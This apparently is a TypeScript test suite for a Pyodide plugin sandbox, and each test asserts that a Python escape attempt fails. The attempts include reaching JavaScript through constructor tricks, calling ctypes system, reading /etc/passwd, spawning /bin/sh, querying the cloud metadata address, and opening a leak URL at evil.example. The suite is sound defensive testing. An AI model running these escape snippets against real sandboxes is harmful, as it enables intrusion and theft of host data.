/** Ways out of Python that lead to JavaScript, the process, the disk or the network elsewhere: none is there. */
import { contain } from './contain.ts';

const GONE = { ends: 'GUEST_ERROR', raises: /not part of this sandbox/ } as const;
const IN_PROCESS = 'globalThis.process';

contain('the bridge to JavaScript', [
  { id: 'PY-ESC-001', title: 'importing it', code: 'import js\nstr(js.process)', ...GONE },
  {
    id: 'PY-ESC-002',
    title: 'running text',
    code: `from pyodide.code import run_js\nrun_js("${IN_PROCESS}")`,
    ...GONE,
  },
  {
    id: 'PY-ESC-004',
    title: 'the constructor of a converted list',
    code: 'from pyodide.ffi import to_js\nto_js([1]).constructor.constructor("return this")()',
    ...GONE,
  },
  {
    id: 'PY-ESC-005',
    title: 'the constructor of a proxy',
    code: 'from pyodide.ffi import create_proxy\ncreate_proxy(lambda: 1).constructor.constructor("return this")()',
    ...GONE,
  },
  {
    id: 'PY-ESC-006',
    title: 'the object in an exception',
    code: 'from pyodide.ffi import to_js\ntry:\n  to_js([1]).at.call(None)\nexcept Exception as e:\n  e.js_error.constructor',
    ...GONE,
  },
  {
    id: 'PY-ESC-007',
    title: 'a proxy left in a module',
    code: 'import pyodide.webloop as w\nw.scheduleCallback.constructor("return this")()',
    ...GONE,
  },
  {
    id: 'PY-ESC-008',
    title: 'a walk over every object there is, for one that is not Python’s',
    code: `
import gc, sys
seen, queue, kinds = set(), [sys.modules, gc.get_objects(), object.__subclasses__()], set()
while queue:
    item = queue.pop()
    if id(item) in seen: continue
    seen.add(id(item))
    kinds.add(type(item).__name__)
    queue.extend(gc.get_referents(item))
[len(seen) > 10000, sorted(k for k in kinds if k.startswith('Js') or 'Proxy' in k and k not in ('ProxyType', 'mappingproxy'))]`,
    ends: 'success',
    value: [true, []],
  },
  { id: 'PY-ESC-016', title: 'its internals', code: 'import _pyodide_core', ...GONE },
  {
    id: 'PY-ESC-016',
    title: 'its internals, as a built-in module',
    code: 'import _imp, importlib.machinery as m\n_imp.create_builtin(m.ModuleSpec("_pyodide_core", None))',
    ends: 'success',
    value: null,
  },
  {
    id: 'own',
    title: 'its internals, as a built-in module that finds what it needs',
    code: 'import _imp, sys, types, importlib.machinery as m\nfor n in ("_pyodide", "_pyodide._core_docs", "js"): sys.modules[n] = types.ModuleType(n)\n_imp.create_builtin(m.ModuleSpec("_pyodide_core", None))',
    ends: 'success',
    value: null,
  },
  {
    id: 'own',
    title: 'foreign functions as a built-in module',
    code: 'import _imp, importlib.machinery as m\n_imp.create_builtin(m.ModuleSpec("_ctypes", None))',
    ends: 'success',
    value: null,
  },
  {
    id: 'PY-ESC-021',
    title: 'importing it again after its deletion',
    code: 'import importlib, sys\nfound = []\nfor n in ("js", "pyodide_js", "pyodide"):\n  sys.modules.pop(n, None)\n  try: found.append(importlib.import_module(n))\n  except Exception as e: pass\nfound',
    ends: 'success',
    value: [],
  },
  {
    id: 'own',
    title: 'importing it without the finder that says it is missing',
    code: 'import sys\nsys.meta_path[:] = sys.meta_path[1:]\nfound = []\nfor n in ("js", "pyodide_js", "pyodide", "_pyodide", "_pyodide_core", "ctypes", "_ctypes"):\n  try: found.append(__import__(n))\n  except ImportError: pass\nfound',
    ends: 'success',
    value: [],
  },
  {
    id: 'PY-ESC-019',
    title: 'classes of the bridge among all classes',
    code: '[c.__name__ for c in object.__subclasses__() if c.__name__.startswith("Js") or "Proxy" in c.__name__ and "js" in c.__module__]',
    ends: 'success',
    value: [],
  },
  {
    id: 'PY-ESC-029',
    title: 'detaching the interrupt',
    code: 'import pyodide_js\npyodide_js.setInterruptBuffer(None)\nwhile True: pass',
    ...GONE,
  },
  {
    id: 'PY-TMO-024',
    title: 'sleeping on the host’s stack',
    code: 'from pyodide.ffi import run_sync\nrun_sync(None)',
    ...GONE,
  },
  {
    id: 'PY-MEM-008',
    title: 'filling the host’s heap through it',
    code: 'from pyodide.ffi import to_js\nwhile True: to_js(bytearray(1 << 24))',
    ...GONE,
  },
]);

contain('foreign code', [
  {
    id: 'PY-ESC-010',
    title: 'running text of JavaScript by ctypes',
    code: 'import ctypes\nctypes.CDLL(None).emscripten_run_script_int(b"1")',
    ...GONE,
  },
  {
    id: 'PY-ESC-012',
    title: 'system by ctypes',
    code: 'import ctypes\nctypes.CDLL(None).system(b"id")',
    ...GONE,
  },
  {
    id: 'PY-ESC-013',
    title: 'looking symbols up',
    code: 'import ctypes\nhasattr(ctypes.CDLL(None), "system")',
    ...GONE,
  },
  {
    id: 'PY-ESC-014',
    title: 'the C interface of the bridge',
    code: 'import ctypes\nctypes.PyDLL(None).JsvObject_CallMethodId',
    ...GONE,
  },
  {
    id: 'PY-ESC-015',
    title: 'loading a library the guest wrote',
    code: 'open("/tmp/e.so", "wb").write(b"\\0asm\\1\\0\\0\\0")\nimport ctypes\nctypes.CDLL("/tmp/e.so")',
    ...GONE,
  },
  {
    id: 'own',
    title: 'loading it as an extension module',
    code: 'open("/tmp/e.so", "wb").write(b"\\0asm\\1\\0\\0\\0")\nimport importlib.machinery as m, importlib.util as u\nu.module_from_spec(u.spec_from_file_location("e", "/tmp/e.so", loader=m.ExtensionFileLoader("e", "/tmp/e.so")))',
    ends: 'GUEST_ERROR',
  },
  {
    id: 'PY-TMO-006',
    title: 'switching the polling for signals off by ctypes',
    code: 'import ctypes\nctypes.c_int8.in_dll(ctypes.pythonapi, "Py_EMSCRIPTEN_SIGNAL_HANDLING").value = 0\nwhile True: pass',
    ...GONE,
  },
]);

contain('the system', [
  {
    id: 'PY-ESC-011',
    title: 'a shell',
    code: 'import os\nos.system("echo out > /tmp/x")',
    ends: 'success',
    value: -1,
  },
  {
    id: 'own',
    title: 'a shell found by its class',
    code: '[c for c in object.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("id")',
    ends: 'success',
    value: -1,
  },
  {
    id: 'PY-ESC-027',
    title: 'a process',
    code: 'import subprocess\nsubprocess.run(["id"])',
    ends: 'GUEST_ERROR',
  },
  {
    id: 'own',
    title: 'fork',
    code: 'import os\nos.fork() if hasattr(os, "fork") else None',
    ends: ['GUEST_ERROR', 'success'],
  },
  { id: 'own', title: 'exec', code: 'import os\nos.execv("/bin/sh", ["sh"])', ends: 'GUEST_ERROR' },
  {
    id: 'PY-ESC-023',
    title: 'a file of the host',
    code: 'open("/etc/passwd").read()',
    ends: 'GUEST_ERROR',
    raises: /No such file/,
  },
  {
    id: 'PY-ESC-022',
    title: 'mounting a directory of the host',
    code: 'import pyodide_js\npyodide_js.mountNodeFS("/h", "/etc")',
    ...GONE,
  },
  {
    id: 'PY-ESC-024',
    title: 'its environment',
    code: 'import os, posix\n[dict(os.environ), len(posix.environ)]',
    ends: 'success',
    value: [{}, 0],
  },
  {
    id: 'PY-ESC-025',
    title: 'procfs',
    code: 'import os\nos.path.exists("/proc")',
    ends: 'success',
    value: false,
  },
  {
    id: 'own',
    title: 'the devices',
    code: 'import os\nsorted(os.listdir("/dev"))',
    ends: 'success',
    value: ['deny', 'net', 'null', 'random', 'sleep', 'stderr', 'stdin', 'stdout', 'urandom', 'zero'],
  },
  {
    id: 'own',
    title: 'its time zone and name',
    code: 'import time, platform, sys\n[time.timezone, time.tzname[0], getattr(sys, "_emscripten_info").runtime]',
    ends: 'success',
    value: [0, 'UTC', null],
  },
  {
    id: 'own',
    title: 'climbing above the root',
    code: 'import os\nos.chdir("/" + "../" * 50)\nsorted(os.listdir("."))',
    ends: 'success',
    value: ['dev', 'lib', 'plugin', 'tmp'],
  },
  {
    id: 'PY-ESC-017',
    title: 'frames above the plugin’s',
    code: 'import sys\nf, files = sys._getframe(), []\nwhile f:\n  files.append(f.f_code.co_filename)\n  f = f.f_back\n[n for n in files if n != "plugin.py" and not n.startswith("/lib/python314.zip/_citadel/")]',
    ends: 'success',
    value: [],
  },
  {
    id: 'PY-ESC-020',
    title: 'attributes by a format string',
    code: 'try:\n  (lambda: 0).nope\nexcept AttributeError as e:\n  o = e.obj\n"{0.__globals__[__name__]}".format(o)',
    ends: 'success',
    value: '__main__',
  },
]);

contain('the network', [
  {
    id: 'PY-NET-001',
    title: 'a socket',
    code: 'import socket\ns = socket.socket()\ns.connect(("127.0.0.1", 9))',
    ends: 'GUEST_ERROR',
  },
  { id: 'own', title: 'a pair of sockets', code: 'import socket\nsocket.socketpair()', ends: 'GUEST_ERROR' },
  {
    id: 'own',
    title: 'a name',
    code: 'import socket\nsocket.getaddrinfo("example.com", 80)',
    ends: 'GUEST_ERROR',
  },
  {
    id: 'PY-NET-002',
    title: 'pyfetch',
    code: 'from pyodide.http import pyfetch\nawait pyfetch("http://169.254.169.254/")',
    ...GONE,
  },
  {
    id: 'PY-NET-003',
    title: 'open_url',
    code: 'from pyodide.http import open_url\nopen_url("http://127.0.0.1/")',
    ...GONE,
  },
  {
    id: 'PY-NET-004',
    title: 'urllib',
    code: 'import urllib.request\nurllib.request.urlopen("http://127.0.0.1/", timeout=2)',
    // In a page that cannot wait, nothing is asked at all.
    ends: ['POLICY_DENIED', 'GUEST_ERROR'],
  },
  {
    id: 'own',
    title: 'a file URL',
    code: 'import urllib.request\nurllib.request.urlopen("file:///etc/passwd")',
    ends: 'GUEST_ERROR',
  },
  {
    id: 'PY-NET-006',
    title: 'micropip',
    code: 'import micropip\nawait micropip.install("http://127.0.0.1/e-1-py3-none-any.whl")',
    ...GONE,
  },
  {
    id: 'PY-NET-007',
    title: 'the browser',
    code: 'import webbrowser\nwebbrowser.open("https://evil.example/?leak=1")',
    ...GONE,
  },
  {
    id: 'own',
    title: 'asyncio',
    code: 'import asyncio\nasync def main(x):\n  await asyncio.open_connection("127.0.0.1", 9)',
    ends: 'GUEST_ERROR',
  },
]);
